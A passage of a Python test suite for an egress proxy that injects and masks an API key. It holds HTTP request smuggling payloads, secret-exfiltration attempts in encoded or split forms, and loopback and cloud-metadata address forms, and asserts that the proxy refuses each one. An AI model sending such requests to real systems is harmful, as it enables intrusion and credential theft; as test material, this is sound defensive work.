"""The egress proxy, attacked by the program that it serves, before an API that shows its key."""

from __future__ import annotations

import asyncio
import base64
import gzip
import http.client
import json
import re
import socket
import ssl
import threading
import time
import zlib
from collections import Counter
from collections.abc import Iterator
from contextlib import suppress
from copy import copy
from pathlib import Path
from typing import Any

import pytest
from msgspec.structs import replace

from harness.egress import VALUE, ApiAddress, EgressApi, EgressStage, egress_api, masked_frame
from harness.live_server import own_server
from harness.patience import PATIENCE_S, eventually
from ostiary.agent import Agent
from ostiary.authorization.catalogue import Catalogue
from ostiary.protocol.errors import Forbidden
from ostiary.proxy.connections import MAX_HEAD
from ostiary.proxy.egress import Dialer, server
from ostiary.proxy.egress.masking import MAX_SHOWN, SearchedStream
from ostiary.proxy.egress.server import MAX_PATH
from ostiary.proxy.egress.tools import LISTING
from ostiary.run.gate import Gate, Injection
from ostiary.run.local import LocalServers
from ostiary.run.plan import Plan

PLACEHOLDER = "OSTIARY:api"
MASKED = "*" * len(VALUE)
HEX = VALUE.encode().hex()


@pytest.fixture(scope="module")
def api(tmp_path_factory: pytest.TempPathFactory) -> Iterator[EgressApi]:
    with egress_api(tmp_path_factory.mktemp("api")) as made:
        yield made


@pytest.fixture(scope="module")
def stage(api: EgressApi, tmp_path_factory: pytest.TempPathFactory) -> Iterator[EgressStage]:
    folder = tmp_path_factory.mktemp("egress")
    with own_server(folder) as live_server, LocalServers() as servers:
        made = EgressStage(live_server, api, folder)
        made.start(servers)
        yield made


def test_a_key_is_sent_to_its_server_and_masked_in_the_response(stage: EgressStage, api: EgressApi) -> None:
    assert stage.ask("/who")[::2] == (200, "welcome")
    status, headers, text = stage.ask("/echo", "POST", b"x", {"Authorization": PLACEHOLDER, "Range": "bytes=0-3"})
    seen, masked = json.loads(text), f"Bearer {MASKED}"
    assert (status, seen["headers"]["authorization"], headers["x-seen"]) == (200, masked, masked)
    assert seen["headers"].keys().isdisjoint({"range", "proxy-authorization"})
    assert seen["headers"]["accept-encoding"] == "identity"
    assert VALUE.encode() not in base64.b64decode(headers["x-base64"].replace("*", "A"))
    assert api.asked[-1][2]["authorization"] == f"Bearer {VALUE}"
    split = stage.ask("/split")[2]  # the first bytes of a value go on if the next ones are late
    assert split.endswith("*" * (len(VALUE) - MAX_SHOWN) + ">"), split


def read_in_two(stage: EgressStage, api: EgressApi, path: str) -> bytes:
    """Return the answer of the API, which sends its second part when the first part has arrived."""
    connection = stage.connect()
    api.go.clear()
    connection.request("GET", path)
    answer = connection.getresponse()
    first = b""
    while len(first) < len(b"data: s\n\ndata: s"):
        first += answer.read1()
    api.go.set()
    whole = first + answer.read()
    connection.close()
    return whole


def test_bodies_are_streamed_in_both_directions(stage: EgressStage, api: EgressApi) -> None:
    assert read_in_two(stage, api, "/events") == b"data: s\n\ndata: sk\n\n"
    parts = [b"x" * 70_000 for _ in range(100)]
    status, _, _ = stage.ask("/who", "POST", iter(parts))
    assert (status, api.asked[-1][3]) == (200, b"".join(parts))
    big = b"y" * (5 << 20)
    assert stage.ask("/who", "POST", big)[0] == 200
    assert api.asked[-1][3] == big


def test_a_request_on_a_kept_connection_opens_no_connection_and_is_sent_in_one_piece(
    stage: EgressStage, monkeypatch: pytest.MonkeyPatch
) -> None:
    counts, refreshed = Counter[str](), 2  # destination and decision, once in five seconds each

    def count(owner: Any, name: str) -> None:
        original = getattr(owner, name)

        def counted(*arguments: Any, **named: Any) -> Any:
            counts[name] += arguments[1:2] != (b"",)
            return original(*arguments, **named)

        monkeypatch.setattr(owner, name, counted)

    connection, started = stage.connect(), time.monotonic()
    for owner, name in ((server._Conversation, "_write"), (server._Upstream, "send"), (Dialer, "connect")):
        count(owner, name)
    count(asyncio, "to_thread")
    for number in range(20):
        connection.request("POST", "/who", b"x" * 100)
        answer = connection.getresponse()
        assert (answer.status, answer.read()) == (200, b"welcome")
        if number == 0:
            counts.clear()
    connection.close()
    # the API sends head and body separately, and each of the two is passed on in one piece
    assert (counts["send"], counts["connect"]) == (19, 0)
    assert 19 <= counts["_write"] <= 2 * 19
    assert counts["to_thread"] <= refreshed * ((time.monotonic() - started) // 5 + 1)


def hello(stage: EgressStage) -> bytes:
    return (
        f"GET /ws HTTP/1.1\r\nHost: localhost:{stage.api.port}\r\nConnection: Upgrade\r\nUpgrade: websocket\r\n"
        "Sec-WebSocket-Key: dGhlIHNhbXBsZSBub25jZQ==\r\nSec-WebSocket-Version: 13\r\n"
        "Sec-WebSocket-Extensions: permessage-deflate\r\n\r\n"
    ).encode()


def test_the_search_of_a_long_body_delays_no_other_request(stage: EgressStage, monkeypatch: pytest.MonkeyPatch) -> None:
    assert stage.ask("/who")[0] == 200  # the proxy knows the key from here on
    begun, done = threading.Event(), threading.Event()
    find = SearchedStream.find

    def wait(search: SearchedStream, part: bytes) -> bool:
        if b"slow" in part:
            begun.set()
            assert done.wait(PATIENCE_S)
        return find(search, part)

    monkeypatch.setattr(SearchedStream, "find", wait)
    answers: list[int] = []
    head = {"Content-Encoding": "gzip"}
    slow = threading.Thread(target=lambda: answers.append(stage.ask("/who", "POST", gzip.compress(b"slow"), head)[0]))
    slow.start()
    assert begun.wait(PATIENCE_S)
    assert stage.ask("/who")[0] == 200
    assert answers == []
    done.set()
    slow.join()
    assert answers == [200]


@pytest.mark.parametrize("is_streamed", [False, True])
@pytest.mark.parametrize("coding", ["gzip", "deflate", "br", "gzip, br"])
def test_a_placeholder_in_a_compressed_body_is_refused(
    stage: EgressStage, api: EgressApi, tmp_path: Path, coding: str, is_streamed: bool
) -> None:
    text = b'{"k": "OSTIARY:api"}'
    body = gzip.compress(text) if coding == "gzip" else zlib.compress(text)
    with LocalServers() as servers:  # a run of its own, without a secret so far
        fresh = copy(stage)
        fresh.plan, fresh.ca_file = replace(stage.plan, spool=str(tmp_path / "spool")), tmp_path / "run-ca.pem"
        fresh.start(servers)
        before = len(api.asked)
        sent: Any = (bytes([byte]) for byte in body) if is_streamed else body
        status, _, answer = fresh.ask("/who", "POST", sent, {"Content-Encoding": coding})
    expected = "compressed_placeholder" if coding in ("gzip", "deflate") else "compressed_request"
    assert (status, json.loads(answer)["error"]) == (415, expected)
    assert len(api.asked) == before


def test_a_websocket_frame_of_a_server_passes_with_the_key_masked(stage: EgressStage, api: EgressApi) -> None:
    head, _, frames = stage.raw(hello(stage), masked_frame(b"hello ")).partition(b"\r\n\r\n")
    assert b" 101 " in head
    assert b"s3pPLMBiTxaQ9kYGzzhZRbK+xOo=" in head
    assert frames[2:] == f"hello Bearer {MASKED}".encode()
    assert "sec-websocket-extensions" not in api.asked[-1][2]


def test_a_websocket_with_compressed_frames_is_refused(stage: EgressStage) -> None:
    assert refusal(stage.raw(hello(stage).replace(b"/ws", b"/deflate"))) == (502, "compressed_answer")


def test_a_connection_without_the_password_is_closed_after_the_handshake_time(
    stage: EgressStage, monkeypatch: pytest.MonkeyPatch
) -> None:
    with stage.open() as admitted:
        monkeypatch.setattr(server, "HANDSHAKE_S", 0.2)
        with socket.create_connection((stage.host, stage.port), PATIENCE_S) as foreign:
            assert foreign.recv(1) == b""
        monkeypatch.undo()
        admitted.sendall(b"GET /who HTTP/1.1\r\nHost: localhost:%d\r\n\r\n" % stage.api.port)
        assert b" 200 " in admitted.recv(1000)


def test_a_malformed_websocket_frame_and_a_frame_with_the_key_are_not_forwarded(stage: EgressStage) -> None:
    assert stage.ask("/who")[0] == 200  # the proxy knows the key from here on
    leak = masked_frame(f"key {VALUE}".encode())
    begun, ended = (masked_frame(VALUE[part].encode()) for part in (slice(9), slice(9, None)))
    divided = b"\x01" + begun[1:] + b"\x89" + masked_frame(b"ping")[1:] + b"\x80" + ended[1:]
    for sent in (leak, divided, b"\x89" + leak[1:], masked_frame(b"")[:1] + b"\x05hello", b"\xc1" + leak[1:]):
        head, _, frames = stage.raw(hello(stage), sent).partition(b"\r\n\r\n")
        assert (b" 101 " in head, frames) == (True, b"")


def refusal(answer: bytes) -> tuple[int, str]:
    head, _, body = answer.partition(b"\r\n\r\n")
    return int(head.split(b" ")[1]), json.loads(body)["error"]


def test_ambiguous_requests_are_refused_and_not_forwarded(stage: EgressStage, api: EgressApi) -> None:
    host, before = f"Host: localhost:{stage.api.port}\r\n".encode(), len(api.asked)
    smuggled = b"GET /smuggled HTTP/1.1\r\n" + host + b"\r\n"
    chunked = b"Transfer-Encoding: chunked\r\n"
    other = b"Host: other.example\r\n"
    for sent, expected in (
        (b"POST / HTTP/1.1\r\n" + host + b"Content-Length: 4\r\n" + chunked + b"\r\n0\r\n\r\n" + smuggled, "malformed"),
        (b"POST /who HTTP/1.1\r\n" + host + b"Content-Length: 0\r\nContent-Length: 90\r\n\r\n" + smuggled, "malformed"),
        (b"POST /who HTTP/1.1\r\n" + host + b"Transfer-Encoding: xchunked\r\n\r\n0\r\n\r\n", "malformed"),
        (b"POST /who HTTP/1.1\r\n" + host + b"Content-Length: +1\r\n\r\nx", "malformed"),
        (b"GET /who HTTP/1.1\r\n" + host + b"X: a\r\n folded\r\n\r\n", "malformed"),
        (b"GET /who HTTP/1.1\n" + host + b"\r\n", "malformed"),
        (b"GET /who HTTP/1.1\r\n" + host + b"X: a\rGET /smuggled HTTP/1.1\r\n\r\n", "malformed"),
        (b"GET /who HTTP/1.1\r\n" + other + b"\r\n", "wrong_host"),
        (b"GET https://other.example/who HTTP/1.1\r\n" + other + b"\r\n", "wrong_host"),
        (b"GET https://other.example/who HTTP/1.1\r\n" + host + b"\r\n", "wrong_host"),
        (b"GET http://localhost/who HTTP/1.1\r\n" + host + b"\r\n", "wrong_host"),
        (b"GET /a/%2e%2e/who HTTP/1.1\r\n" + host + b"\r\n", "invalid_path"),
        (b"OPTIONS * HTTP/1.1\r\n" + host + b"\r\n", "malformed"),
        (b"CONNECT other.example:443 HTTP/1.1\r\n" + host + b"\r\n", "malformed"),
        (b"TRACE /who HTTP/1.1\r\n" + host + b"\r\n", "method_not_allowed"),
        (b"GET /botOSTIARY:api HTTP/1.1\r\n" + host + b"\r\n", "placeholder_in_path"),
        (b"GET /who?k=OSTIARY:api HTTP/1.1\r\n" + host + b"\r\n", "foreign_place"),
        (b"GET /who HTTP/1.1\r\n" + host + b"X: OSTIARY:none\r\n\r\n", "foreign_placeholder"),
        (b"GET /who HTTP/1.1\r\n" + host + b"X: OSTIARY:api\r\n\r\n", "foreign_place"),
        (
            b"POST /who HTTP/1.1\r\n" + host + b"Authorization: OSTIARY:api\r\nContent-Length: 11\r\n\r\nOSTIARY:api",
            "foreign_place",
        ),
        (b"GET /%4fSTIARY:api HTTP/1.1\r\n" + host + b"\r\n", "placeholder_in_path"),
        (b"GET /100% HTTP/1.1\r\n" + host + b"\r\n", "invalid_path"),
        (b"GET /" + b"x" * MAX_PATH + b" HTTP/1.1\r\n" + host + b"\r\n", "path_too_long"),
        (b"GET /who HTTP/1.1\r\n" + host + b"X: " + VALUE.encode() + b"\r\n\r\n", "secret_sent"),
        (b"GET /who HTTP/1.1\r\n" + host + b"X: " + base64.b64encode(VALUE.encode()) + b"\r\n\r\n", "secret_sent"),
        (b"GET /who HTTP/1.1\r\n" + host + b"X-" + HEX.encode() + b": 1\r\n\r\n", "secret_sent"),
        (b"GET /who?x=s%6b" + VALUE[2:].encode() + b" HTTP/1.1\r\n" + host + b"\r\n", "secret_sent"),
    ):
        assert refusal(stage.raw(sent))[1] == expected, sent
    late = b"POST /who HTTP/1.1\r\n" + host + chunked + b"\r\n8\r\nOSTIARY:\r\n4\r\nnone\r\n0\r\n\r\n"
    assert b"foreign_placeholder" in stage.raw(late)
    leaked = VALUE.encode()
    coded, packed = b"Content-Encoding: gzip\r\n", gzip.compress(b"a part") + gzip.compress(b"key=" + leaked)
    for headers, body, is_streamed, code in (
        (b"", leaked, True, b"secret_sent"),
        (b"", b"   \r\n".join(b"%c" % byte for byte in leaked), True, b"secret_sent"),
        (b"X-One: " + leaked[:9] + b"\r\nX-Two: " + leaked[9:] + b"\r\n", b"", False, b"secret_sent"),
        (coded, packed, False, b"secret_sent"),
        (coded, packed[:-9], True, b"secret_sent"),
        (coded, b"key", True, b"compressed_request"),
        (coded.replace(b"gzip", b"br"), b"key", False, b"compressed_request"),
    ):
        framing = chunked if is_streamed else b"Content-Length: %d\r\n" % len(body)
        sent = b"".join(b"1\r\n%c\r\n" % byte for byte in body) + b"0\r\n\r\n" if is_streamed else body
        answer = stage.raw(b"POST /who HTTP/1.1\r\n" + host + headers + framing + b"\r\n" + sent)
        assert code in answer.partition(b"\r\n")[0], (headers, answer)
    assert [one for one in api.asked[before:] if one[1] != "/who" or one[3]] == []


@pytest.mark.parametrize(
    "head",
    [
        pytest.param(b"POST /who HTTP/1.1\r\n%bContent-Length : 4\r\n\r\nabcd", id="a space before the colon"),
        pytest.param(
            b"POST /who HTTP/1.1\r\n%bContent-Length: 1\r\nTransfer-Encoding: chunked\r\n\r\n0\r\n\r\n", id="both"
        ),
        pytest.param(
            b"POST /who HTTP/1.1\r\n%bTransfer-Encoding: chunked, identity\r\n\r\n0\r\n\r\n", id="two codings"
        ),
        pytest.param(b"POST /who HTTP/1.1\r\n%bTransfer-Encoding:\x0bchunked\r\n\r\n0\r\n\r\n", id="a vertical tab"),
        pytest.param(b"POST /who HTTP/1.0\r\n%bTransfer-Encoding: chunked\r\n\r\n0\r\n\r\n", id="chunks in HTTP/1.0"),
        pytest.param(
            b"POST /who HTTP/1.1\r\n%bTransfer-Encoding: chunked\r\n\r\n-1\r\nx\r\n0\r\n\r\n", id="a negative chunk"
        ),
        pytest.param(
            b"POST /who HTTP/1.1\r\n%bTransfer-Encoding: chunked\r\n\r\n0x1\r\nx\r\n0\r\n\r\n",
            id="a hexadecimal prefix",
        ),
        pytest.param(
            b"POST /who HTTP/1.1\r\n%bTransfer-Encoding: chunked\r\n\r\n1\r\nxx\r\n0\r\n\r\n", id="a longer chunk"
        ),
        pytest.param(
            b"POST /who HTTP/1.1\r\n%bTransfer-Encoding: chunked\r\n\r\n1\r\nx\n0\r\n\r\n", id="a chunk without CR"
        ),
        pytest.param(b"GET /who HTTP/1.1\r\n%b: x\r\n\r\n", id="no name"),
        pytest.param(b"GET /who HTTP/1.1\r\n%bX\x7f: x\r\n\r\n", id="no token as a name"),
        pytest.param(b"GET\t/who HTTP/1.1\r\n%b\r\n", id="a tab in the request line"),
        pytest.param(b"GET  /who HTTP/1.1\r\n%b\r\n", id="two spaces"),
        pytest.param(b"GET /who HTTP/0.9\r\n%b\r\n", id="an old version"),
        pytest.param(b"PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n%b", id="the preface of HTTP/2"),
        pytest.param(b"CONNECT other.example:443 HTTP/1.1\r\n%b\r\n", id="a tunnel in the tunnel"),
        pytest.param(b"\r\n\r\nGET /who HTTP/1.1\r\n%b\r\n", id="empty lines first"),
        pytest.param(
            b"GET /who HTTP/1.1\r\n%bUpgrade: websocket\r\nContent-Length: 1\r\n\r\nx", id="a web socket with a body"
        ),
    ],
)
def test_a_request_that_is_not_plain_http_is_not_forwarded(stage: EgressStage, api: EgressApi, head: bytes) -> None:
    before = len(api.asked)
    answer = stage.raw(head % (b"Host: localhost:%d\r\n" % stage.api.port))
    assert answer == b"" or refusal(answer)[0] in (400, 405, 421)
    assert api.asked[before:] == []


def test_requests_in_one_piece_are_decided_one_by_one_and_answered_in_order(stage: EgressStage, api: EgressApi) -> None:
    host, before = b"Host: localhost:%d\r\n" % stage.api.port, len(api.asked)
    first = b"POST /who HTTP/1.1\r\n" + host + b"Transfer-Encoding: chunked\r\n\r\n"
    first += b"3;name=value\r\none\r\n0\r\nHost: other.example\r\nX: " + VALUE.encode() + b"\r\n\r\n"
    second = b"POST /who HTTP/1.1\r\n" + host + b"Content-Length: 3\r\n\r\ntwo"
    third = b"GET /who HTTP/1.1\r\n" + host + b"X: " + VALUE.encode() + b"\r\n\r\n"
    answer = stage.raw(first + second + third)
    assert re.findall(rb"HTTP/1.1 ([0-9]+)", answer) == [b"200", b"200", b"403"]
    assert [body for _, _, _, body in api.asked[before:]] == [b"one", b"two"]
    assert not any("x" in headers or "other.example" in str(headers) for _, _, headers, _ in api.asked[before:])


def test_the_status_100_is_sent_for_an_accepted_request_and_not_for_a_refused_request(stage: EgressStage) -> None:
    host = b"Host: localhost:%d\r\nConnection: close\r\n" % stage.api.port
    expecting = b"Content-Length: 3\r\nExpect: 100-continue\r\n"
    with stage.open() as sock:
        sock.sendall(b"POST /who HTTP/1.1\r\n" + host + expecting + b"\r\n")
        assert sock.recv(1000).startswith(b"HTTP/1.1 100 ")
        sock.sendall(b"abc")
        assert sock.recv(1000).startswith(b"HTTP/1.1 200 ")
    refused = stage.raw(b"TRACE /who HTTP/1.1\r\n" + host + expecting + b"\r\n")
    assert refusal(refused) == (405, "method_not_allowed")


def test_an_http_1_0_connection_ends_after_its_response_and_other_upgrades_are_removed(
    stage: EgressStage, api: EgressApi
) -> None:
    host = b"Host: localhost:%d\r\n" % stage.api.port
    old = b"GET /who HTTP/1.0\r\n" + host + b"Connection: keep-alive\r\n\r\n"
    assert stage.raw(old + old).count(b"welcome") == 1
    upgrade = b"Connection: Upgrade, HTTP2-Settings, close\r\nUpgrade: h2c\r\nHTTP2-Settings: AAMAAABk\r\n\r\n"
    assert stage.raw(b"GET /who HTTP/1.1\r\n" + host + upgrade).startswith(b"HTTP/1.1 200 ")
    assert api.asked[-1][2].keys().isdisjoint({"upgrade", "http2-settings"})


@pytest.mark.parametrize(
    "host",
    [
        "127.1",
        "0177.0.0.1",
        "0x7f.0.0.1",
        "0x7f000001",
        "2130706433",
        "127.0.0.1.",
        "localhost",
        "0.0.0.0",
        "169.254.169.254",
        "[::]",
        "[::1%25lo]",
        "[0:0:0:0:0:0:0:1]",
        "[::ffff:127.0.0.1]",
        "[::127.0.0.1]",
        "[64:ff9b::7f00:1]",
        "[2002:7f00:1::]",
        "[fd00:ec2::254]",
        "[fe80::1]",
    ],
)
def test_no_form_of_an_address_leads_to_this_machine_or_to_a_metadata_service(stage: EgressStage, host: str) -> None:
    password = "".join(f"{name}: {value}\r\n" for name, value in stage.password.items())
    for target, sent_host in ((f"CONNECT {host}:443", f"{host}:443"), (f"GET http://{host}/", host)):
        sent = f"{target} HTTP/1.1\r\nHost: {sent_host}\r\n{password}\r\n".encode()
        with socket.create_connection((stage.host, stage.port), PATIENCE_S) as sock:
            sock.sendall(sent)
            answer = sock.recv(10_000)
            if answer.startswith(b"HTTP/1.1 200 "):  # the tunnel leads to nothing yet
                answer = ask_in_tunnel(stage, sock, host)
        assert int(answer.split(b" ")[1]) in (400, 403), answer


def ask_in_tunnel(stage: EgressStage, sock: socket.socket, host: str) -> bytes:
    """The answer to a request in a tunnel to a host whose certificate is not verified."""
    context = ssl.create_default_context(cafile=stage.ca_file)
    context.check_hostname = False
    with context.wrap_socket(sock, server_hostname=host) as tunnel:
        tunnel.sendall(f"GET / HTTP/1.1\r\nHost: {host}\r\nConnection: close\r\n\r\n".encode())
        return tunnel.recv(10_000)


def test_a_request_in_single_bytes_is_accepted_and_a_too_long_head_is_refused(stage: EgressStage) -> None:
    host = b"Host: localhost:%d\r\nConnection: close\r\n" % stage.api.port
    slow = b"POST /who HTTP/1.1\r\n" + host + b"Content-Length: 3\r\n\r\nabc"
    assert b"welcome" in stage.raw(*(slow[at : at + 1] for at in range(len(slow))))
    long = b"GET /who HTTP/1.1\r\n" + host + b"X: " + b"x" * MAX_HEAD
    assert refusal(stage.raw(long)) == (431, "head_too_large")


OK = b"HTTP/1.1 200 OK\r\n"
FIRST, REST = VALUE[:9].encode(), VALUE[9:].encode()


@pytest.mark.parametrize(
    "raw",
    [
        pytest.param([OK, b"X: " + FIRST + b"\r\n " + REST + b"\r\n\r\n"], id="a folded header"),
        pytest.param([b"HTTP/1.1 200 OK\n", b"X: " + FIRST + b"\n\t" + REST + b"\n\n"], id="a fold without CR"),
        pytest.param([b"HTTP/1.1 103 Hints\r\nX: " + FIRST + b"\r\n " + REST + b"\r\n\r\n", OK], id="a folded hint"),
        pytest.param([OK, b"X: " + FIRST + b"\r" + REST + b"\r\n\r\n"], id="a bare CR"),
        pytest.param([OK, b"X: " + FIRST + b"\0" + REST + b"\r\n\r\n"], id="a null character"),
        pytest.param([OK, b"X " + VALUE.encode() + b"\r\n\r\n"], id="a line without a colon"),
        pytest.param([OK, b"X: " + VALUE.encode() * 5000 + b"\r\n\r\n"], id="a head of 90 KiB"),
        pytest.param([OK, b"Content-Length: 3\r\nContent-Length: 4\r\n\r\nabcd"], id="two lengths"),
        pytest.param([OK, b"Content-Length: -1\r\n\r\n"], id="a negative length"),
        pytest.param([OK, b"Transfer-Encoding: gzip, chunked\r\n\r\n0\r\n\r\n"], id="another transfer encoding"),
        pytest.param([b"HTTP/1.1 101 Switch\r\nUpgrade: x\r\n\r\n" + VALUE.encode()], id="a switch for nothing"),
        pytest.param([b"HTTP/2 200 OK\r\n\r\n" + VALUE.encode()], id="another version"),
        pytest.param([VALUE.encode() + b"\r\n\r\n"], id="no HTTP"),
        pytest.param([b""], id="nothing"),
    ],
)
def test_a_response_that_is_not_plain_http_is_not_forwarded(
    stage: EgressStage, api: EgressApi, raw: list[bytes]
) -> None:
    api.raw = raw
    answer = stage.raw(b"GET /raw HTTP/1.1\r\nHost: localhost:%d\r\n\r\n" % stage.api.port)
    assert refusal(answer) == (502, "upstream_failed")
    assert FIRST not in answer, "not in the message either"


@pytest.mark.parametrize(
    ("raw", "expected"),
    [
        pytest.param(
            [OK, b"Transfer-Encoding: chunked\r\n\r\n2;x=" + VALUE.encode() + b"\r\nok\r\n0\r\nX: " + VALUE.encode()],
            b"",
            id="a chunk extension, and a broken end",
        ),
        pytest.param(
            [
                OK,
                b"Transfer-Encoding: chunked\r\n\r\n2\r\nok\r\n0\r\nX: " + FIRST + b"\r\n " + REST,
                b"\r\nY: " + VALUE.encode() + b"\r\n\r\n",
            ],
            b"ok",
            id="trailers",
        ),
        pytest.param(
            [b"HTTP/1.1 103 Hints\r\nX: " + VALUE.encode() + b"\r\n\r\n"] * 9 + [OK, b"Content-Length: 2\r\n\r\nok"],
            b"ok",
            id="hints",
        ),
        pytest.param(
            [OK, b"Content-Length: 2\r\n\r\nok", OK, b"Content-Length: 22\r\n\r\n" + VALUE.encode()],
            b"ok",
            id="an answer that nothing asked for",
        ),
        pytest.param(
            [b"HTTP/1.1 200 " + VALUE.encode() + b"\r\n", b"X-" + HEX.encode() + b": 1\r\n", b"\r\nok"],
            b"ok",
            id="a phrase, and a body until the end",
        ),
        pytest.param([OK, b"Content-Length: 100\r\n\r\nok" + VALUE[:-1].encode()], b"ok", id="an end within the key"),
        pytest.param(
            [b"HTTP/1.1 204 None\r\nContent-Length: 22\r\n\r\n" + VALUE.encode()], b"", id="a body where none may be"
        ),
    ],
)
def test_no_part_of_a_response_has_the_key(
    stage: EgressStage, api: EgressApi, raw: list[bytes], expected: bytes
) -> None:
    api.raw = raw
    host = b"Host: localhost:%d\r\n" % stage.api.port
    answer = stage.raw(
        b"GET /raw HTTP/1.1\r\n" + host + b"\r\nGET /who HTTP/1.1\r\n" + host + b"Connection: close\r\n\r\n"
    )
    assert not [one for one in (FIRST, REST, HEX.encode()) if one in answer]
    assert expected in answer


def test_a_body_is_searched_for_a_secret_that_the_run_uses_only_after_the_body_has_begun(
    stage: EgressStage, api: EgressApi, tmp_path: Path, monkeypatch: pytest.MonkeyPatch
) -> None:
    """A run of its own, whose first secret is used while bodies are under way to another server."""
    with egress_api(tmp_path) as other, LocalServers() as servers:
        monkeypatch.setattr(server, "HTTPS_PORT", other.port)
        authorities = tmp_path / "both.pem"
        authorities.write_bytes(api.ca_file.read_bytes() + other.ca_file.read_bytes())
        fresh = copy(stage)
        fresh.plan, fresh.ca_file = replace(stage.plan, spool=str(tmp_path / "spool")), tmp_path / "run-ca.pem"
        fresh.api = ApiAddress(other.port, authorities)
        fresh.start(servers, private=["localhost"])
        packed, plain = gzip.compress(b"x" * 9 + VALUE.encode()), VALUE.encode()
        bodies = {b"gzip": packed, b"br": packed, b"identity": plain}
        head = b"POST /who HTTP/1.1\r\nHost: localhost\r\nTransfer-Encoding: chunked\r\nContent-Encoding: %b\r\n\r\n"
        open_bodies = {coding: fresh.open() for coding in bodies}
        for coding, sock in open_bodies.items():
            sock.sendall(head % coding + b"5\r\n%b\r\n" % bodies[coding][:5])
        eventually(lambda: len(other.begun) == len(bodies))
        fresh.api = ApiAddress(api.port, authorities)
        assert fresh.ask("/who")[2] == "welcome"
        for coding, sock in open_bodies.items():
            with sock:
                sock.sendall(b"%x\r\n%b\r\n0\r\n\r\n" % (len(bodies[coding]) - 5, bodies[coding][5:]))
                assert end_of(sock) == (b"415" if coding == b"br" else b"403")
        assert other.asked == []


def test_the_first_request_of_a_run_is_searched_for_the_secret_that_it_uses(
    stage: EgressStage, api: EgressApi, tmp_path: Path
) -> None:
    with LocalServers() as servers:
        fresh = copy(stage)
        fresh.plan, fresh.ca_file = replace(stage.plan, spool=str(tmp_path / "spool")), tmp_path / "run-ca.pem"
        fresh.start(servers)
        before = len(api.asked)
        status, _, text = fresh.ask("/who", "POST", VALUE)
        assert (status, json.loads(text)["error"], len(api.asked)) == (403, "secret_sent", before)


def test_paths_are_normalized_and_headers_that_prevent_the_search_are_removed(
    stage: EgressStage, api: EgressApi
) -> None:
    headers = {"X_HTTP_Method_Override": "DELETE", "Accept_Encoding": "gzip", "Accept-Charset": "utf-16", "X_Mine": "1"}
    headers |= {"Content_Length": "9", "Sec_WebSocket_Extensions": "permessage-deflate", "Proxy_Key": "1"}
    assert stage.ask("/%77h%6F?a=%6f&b=%2f", headers=headers)[0] == 200
    _, path, seen, _ = api.asked[-1]
    assert path == "/who?a=%6f&b=%2f"
    assert seen.keys().isdisjoint(
        {"x_http_method_override", "accept_encoding", "accept-charset"}
        | {"content_length", "sec_websocket_extensions", "proxy_key"}
    )
    assert (seen["x_mine"], seen["accept-encoding"]) == ("1", "identity")
    stage.ask("/" + "x" * (MAX_PATH - 1))
    assert api.asked[-1][1] == "/" + "x" * (MAX_PATH - 1)
    entry = stage.live_server.entries(action="vault.inject", limit=1)[0]
    assert entry["detail"]["path"] == api.asked[-1][1][:256]
    for answered, expected in (("/gzip", "compressed_answer"), ("/lengths", "upstream_failed")):
        status, _, text = stage.ask(answered)
        assert (status, json.loads(text)["error"]) == (502, expected)


def test_the_memory_of_a_task_gets_divided_words_and_a_compressed_response_is_refused(
    api: EgressApi, tmp_path: Path, monkeypatch: pytest.MonkeyPatch
) -> None:
    """A run without secrets, in which only the memory searches answers."""
    monkeypatch.setattr(server, "HTTPS_PORT", api.port)
    with own_server(tmp_path) as live_server, LocalServers() as servers:
        stage = EgressStage(live_server, api, tmp_path)
        live_server.api("DELETE", "/secrets/destinations/api")
        asked = {"agent": stage.agent, "purpose": "to read", "intent": {"words": "Read the page"}}
        stage.plan = replace(stage.plan, task=live_server.api("POST", "/tasks", asked)["task_id"])
        stage.start(servers, private=["localhost"])
        assert stage.ask("/who")[0] == 401  # passes, without the key
        status, _, text = stage.ask("/gzip")
        assert (status, json.loads(text)["error"]) == (502, "compressed_answer")
        texts: list[object] = []
        observe = Gate.observe

        def observed(gate: Gate, call: Any, output: object) -> None:
            texts.append(output)
            observe(gate, call, output)

        monkeypatch.setattr(Gate, "observe", observed)
        assert read_in_two(stage, api, "/events") == b"data: s\n\ndata: sk\n\n"
        assert any("data: sk" in str(text) for text in texts), "one text has the divided word"
        # the server closes the connection while the first part is observed
        assert stage.ask("/events")[2] == "data: s\n\ndata: sk\n\n"
        live_server.api("PUT", f"/resources/{stage.resource}/mode", {"mode": "watch"})
        asking = b"GET /gzip HTTP/1.1\r\nHost: localhost:%d\r\nConnection: close\r\n\r\n" % api.port
        eventually(lambda: stage.raw(asking)[9:12] == b"200")


@pytest.mark.parametrize(("per_call", "is_whole"), [(7, True), (6, False)])
def test_an_answer_with_more_bytes_than_the_volume_of_a_call_is_cut(
    api: EgressApi, tmp_path: Path, per_call: int, is_whole: bool
) -> None:
    with own_server(tmp_path) as live_server, LocalServers() as servers:
        stage = EgressStage(live_server, api, tmp_path)
        catalogue = Catalogue.from_mcp(stage.resource, LISTING).render()
        for tool in catalogue["tools"]:
            tool["data_classes"] = ["internal"]
        live_server.api("PUT", f"/resources/{stage.resource}/catalogue", {"catalogue": catalogue})
        limit = {"kind": "volume", "unit": "bytes", "data_class": "internal", "limit": 1000, "per_call": per_call}
        asked = {"agent": stage.agent, "purpose": "to read", "budget": [limit]}
        stage.plan = replace(stage.plan, task=live_server.api("POST", "/tasks", asked)["task_id"])
        stage.start(servers)
        if is_whole:
            assert stage.ask("/who")[::2] == (200, "welcome")
        else:
            with pytest.raises(http.client.HTTPException):
                stage.ask("/who")


def test_a_tunnel_requires_the_password_of_the_run_an_open_port_and_a_public_address(stage: EgressStage) -> None:
    password = "".join(f"{name}: {value}\r\n" for name, value in stage.password.items())

    def connect(at: str, headers: str = password, host: str = "") -> tuple[int, str]:
        return refusal(stage.raw(f"CONNECT {at} HTTP/1.1\r\nHost: {host or at}\r\n{headers}\r\n".encode(), tls=False))

    assert connect(f"localhost:{stage.api.port}", "") == (407, "no_password")
    assert connect(f"localhost:{stage.api.port}", "Proxy-Authorization: Basic b3N0aWFyeTp4\r\n") == (407, "no_password")
    assert connect(f"localhost:{stage.port}") == (403, "port_closed")
    assert connect("api.example:22") == (403, "port_closed")
    assert connect(f"127.1:{stage.api.port}") == (400, "malformed")
    assert connect("localhost") == (400, "malformed")
    assert connect(f"localhost:{stage.api.port}", host="other.example:443") == (400, "malformed")
    assert stage.ask("/who")[0] == 200  # the proxy knows the key from here on
    for leak in (HEX, f"{HEX[:20]}.{HEX[20:]}"):
